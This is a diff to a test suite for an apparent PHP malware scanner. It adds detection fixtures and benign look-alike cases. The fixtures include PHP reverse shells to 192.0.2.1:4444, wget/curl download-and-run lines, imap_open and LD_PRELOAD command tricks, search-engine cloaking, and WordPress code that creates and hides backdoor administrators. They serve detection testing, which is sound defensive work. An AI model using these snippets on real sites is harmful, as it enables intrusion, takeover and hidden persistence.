@@ -96,6 +96,46 @@ describe('suspicions', () => {
     ['fileManager', `if (${GET}['d']) unlink(${GET}['d']); foreach (scandir(${GET}['l']) as $x) echo $x;`],
     ['networkShell', `$s = fsockopen('192.0.2.1', 4444); while (!feof($s)) fwrite($s, shell_exec(fgets($s)));`],
     ['systemProbe', `echo implode("\\n", file('/etc/passwd'));`],
+    ['networkShell', `exec("/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'");`],
+    ['networkShell', `$s = fsockopen('192.0.2.1', 4444); proc_open('/bin/sh -i', [$s, $s, $s], $pipes);`],
+    ['droppedCode', `${SYSTEM}('wget http://192.0.2.1/a.txt -O b.php');`],
+    ['droppedCode', `shell_exec('curl -s http://192.0.2.1/a | sh');`],
+    ['shellTools', `putenv('LD_PRELOAD=/tmp/a.so'); mail('', '', '', '');`],
+    ['commandFromRequest', `imap_open('{x -oProxyCommand=' . ${INPUT} . '}', '', '');`],
+    ['commandFromRequest', `$f = FFI::cdef('int ${SYSTEM}(const char *c);'); $f->${SYSTEM}(${INPUT});`],
+    ['commandFromRequest', `$s = ssh2_exec($connection, ${INPUT});`],
+    ['commandFromRequest', `$x->registerPHPFunctions(); $x->query("//a[php:functionString('${SYSTEM}', 'id')]");`],
+    [
+      'codeFromRequest',
+      `$xsl = '<xsl:value-of select="php:function(\\'${ASSERT}\\', string(.))"/>'; $p = new XSLTProcessor(); $p->registerPHPFunctions();`,
+    ],
+    ['systemProbe', `foreach (glob('/home/*/public_html/wp-config.php') as $f) echo $f;`],
+    ['systemProbe', `$iis = new COM('IIS://localhost/w3svc');`],
+    ['hiddenVariableName', `echo \${'_' . 'GET'}['a'];`],
+    ['hiddenVariableName', `\${"\\x47LOBALS"}['a'] = 1;`],
+    ['hiddenVariableName', `\${"\\x61"} = \${"\\x62"} = \${"\\x63"} = 1;`],
+    [
+      'cloaking',
+      `$a = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($a, 'googlebot') !== false) { echo file_get_contents('http://192.0.2.1/?h=' . $_SERVER['HTTP_HOST']); exit; }`,
+    ],
+    [
+      'cloaking',
+      `function bot() { return preg_match('/bing|yahoo/i', $_SERVER['HTTP_USER_AGENT']); } if (bot()) { $c = curl_init('http://192.0.2.1/'); $h = curl_exec($c); echo $h; }`,
+    ],
+    [
+      'cloaking',
+      `if (preg_match('/google/i', $_SERVER['HTTP_REFERER'])) { header('Location: http://198.51.100.1/'); exit; }`,
+    ],
+    ['cloaking', `echo file_get_contents('http://192.0.2.1/?agent=' . urlencode($_SERVER['HTTP_USER_AGENT']));`],
+    [
+      'adminAccess',
+      `require '../wp-load.php'; $u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID);`,
+    ],
+    ['adminAccess', `wp_insert_user(['user_login' => 'a', 'user_pass' => 'b', 'role' => 'administrator']);`],
+    [
+      'adminAccess',
+      `add_action('pre_user_query', 'h'); function h($q) { $q->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$t}.user_login != 'a'", $q->query_where); }`,
+    ],
     ['queryFromRequest', `$r = mysql_query(stripslashes(${INPUT}));`],
   ];
   for (const [signal, code] of strong) {
@@ -129,6 +169,20 @@ describe('suspicions', () => {
     ['a cached template', `file_put_contents($f, '<?php return ' . var_export($list, true) . ';'); include $f;`],
     ['protection in a settings file', `file_put_contents('.htaccess', "Deny from all\n");`],
     ['an archive of programs', `include 'phar://tool.phar/autoload.php';`],
+    [
+      'pages for telephones',
+      `if (preg_match('/iphone|android/i', $_SERVER['HTTP_USER_AGENT'])) header('Location: /m/');`,
+    ],
+    [
+      'a count of robots',
+      `if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) count_robot(); echo $page;`,
+    ],
+    ['users who sign up', `$id = wp_create_user(${INPUT}, ${POST}['b']); $u->set_role(get_option('default_role'));`],
+    ['a variable by its name', `foreach (['a', 'b'] as $n) { echo $$n; }`],
+    [
+      'a question for a version',
+      `exec('curl --version', $out); exec('wget -q https://example.org/list.json -O list.json');`,
+    ],
     ['a log file', `file_put_contents('log.txt', date('c') . ' ' . $_SERVER['REMOTE_ADDR'], FILE_APPEND);`],
     ['a comparison of passwords of users', `if (md5(${INPUT}) === $row['password']) login();`],
     [
